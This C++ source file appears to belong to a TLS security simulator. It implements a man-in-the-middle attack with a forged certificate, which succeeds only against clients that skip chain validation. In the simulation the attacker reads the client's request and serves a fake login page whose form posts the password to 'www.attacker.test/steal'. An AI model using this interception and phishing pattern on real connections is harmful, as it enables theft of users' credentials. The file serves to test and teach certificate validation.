// mitm-forged-cert: the attacker terminates the client's connection with a certificate of its
// own for the host (self-signed, issued by its own CA, or a real one for another host it owns)
// and opens its own connection to the server. A client that validates the chain aborts at the
// Certificate (RFC 5280 6, RFC 6125 6); one that does not sends its request to the attacker,
// who reads it and answers with a page of its own.
#include "attack/script.hpp"
#include "asn1/der.hpp"
#include "net/mitm.hpp"
#include "pki/cert.hpp"
#include "pki/profiles.hpp"

namespace sim::attack {

namespace {

constexpr const char* kAttackerHost = "www.attacker.test";

// The attacker's own page: a login form that posts to it.
Bytes forged_page() {
  std::string body =
      "<!DOCTYPE html>\n<html><head><title>Log in</title></head>\n<body><h1>Session expired</h1>"
      "<form action=\"https://www.attacker.test/steal\" method=\"post\">Password: <input name=\"pw\"></form></body></html>\n";
  return to_bytes("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: " +
                  std::to_string(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
}

// The chain and key the attacker presents. Its keys come from its own seed, never the server's.
std::pair<std::vector<Bytes>, Bytes> forged_chain(const ScenarioOptions& o, const std::string& variant) {
  uint64_t own_seed = o.pki_seed ^ 0x61747461636b6572ull;  // "attacker"
  if (variant == "self-signed") {
    const auto& b = pki::profile_pki(pki::CertProfile::self_signed, o.host, own_seed);
    return {b.chain, b.leaf_key};
  }
  if (variant == "own-ca") {
    const auto& b = pki::profile_pki(pki::CertProfile::unknown_ca, o.host, own_seed);
    return {b.chain, b.leaf_key};
  }
  // other-host: the trusted CA (the scenario's) issued the attacker a certificate for its own
  // domain, as any CA does for a domain's owner; the key is the attacker's.
  const auto& ca = pki::profile_pki(pki::profile_by_name(o.certificate_profile).value_or(pki::CertProfile::valid), o.host, o.pki_seed);
  const auto& mine = pki::profile_pki(pki::CertProfile::valid, kAttackerHost, own_seed);
  auto leaf = pki::parse_certificate(mine.leaf);
  auto inter = pki::parse_certificate(ca.intermediate);
  pki::CertSpec s;
  s.serial = Bytes{0x41, 0x74, 0x74, 0x61, 0x63, 0x6b};
  s.subject_name = pki::make_name(kAttackerHost, "Attacker");
  s.issuer_name = inter.value().subject_der;
  s.not_before = leaf.value().not_before;
  s.not_after = leaf.value().not_after;
  s.spki = leaf.value().spki;
  s.extensions = {pki::make_extension(der::kOidBasicConstraints, true, pki::ext_basic_constraints(false, std::nullopt)),
                  pki::make_extension(der::kOidKeyUsage, true, pki::ext_key_usage(pki::kDigitalSignature | pki::kKeyEncipherment)),
                  pki::make_extension(der::kOidExtKeyUsage, false, pki::ext_ext_key_usage({pki::kOidServerAuthEku})),
                  pki::make_extension(der::kOidSubjectAltName, false, pki::ext_subject_alt_name({kAttackerHost}, {}))};
  Rng rng(own_seed, "attacker certificate");
  auto cert = pki::mint_certificate(s, ca.intermediate_key, rng);
  return {{cert.value_or(Bytes{}), ca.intermediate}, mine.leaf_key};
}

class ForgedCertMitm : public MitmAttacker {
 public:
  ForgedCertMitm(ServerConfig to_client, ClientConfig to_server, uint64_t seed)
      : MitmAttacker(std::move(to_client), std::move(to_server), seed, [this](Actor from, Bytes plain) {
          if (from == Actor::client) return plain;  // the request goes on, read
          if (forged_sent_) return Bytes{};
          forged_sent_ = true;
          return forged_;
        }) {}

  std::optional<AttackReport> report(const Trace& t, bool over) const override {
    std::vector<AttackEvidence> ev;
    const Bytes& read = facing_client().app_received();
    if (!read.empty()) ev.push_back(text_evidence("request_read", msg("evidence.request_read"), read, first_app(t, Actor::client, Actor::attacker)));
    bool shown = contains(t.client_app_received, forged_);
    if (forged_sent_) ev.push_back(text_evidence("page_forged", msg("evidence.page_forged"), forged_, first_app(t, Actor::attacker, Actor::client)));
    return make_report(msg("attack.mitm-forged-cert.succeeded"), msg("attack.mitm-forged-cert.failed"), t, over, !read.empty() && shown, std::move(ev));
  }

 private:
  static std::optional<uint32_t> first_app(const Trace& t, Actor from, Actor to) {
    for (size_t i = 0; i < t.events.size(); ++i)
      if (t.events[i].from == from && t.events[i].to == to && !t.events[i].attack && is_application_record(t.events[i]))
        return uint32_t(i);
    return std::nullopt;
  }
  Bytes forged_ = forged_page();
  bool forged_sent_ = false;
};

}  // namespace

std::shared_ptr<Attacker> mitm_forged_cert(const ScenarioOptions& o) {
  ServerConfig to_client = server_config(o);
  auto [chain, key] = forged_chain(o, attack_variant(o));
  to_client.certificate_chain = chain;
  to_client.private_key_pkcs8 = key;
  to_client.ocsp_response.clear();
  ClientConfig to_server = client_config(o);
  to_server.validation.enabled = false;  // the attacker talks to the real server whatever it shows
  to_server.certificate = {};
  return std::make_shared<ForgedCertMitm>(std::move(to_client), std::move(to_server), o.seed);
}

}  // namespace sim::attack
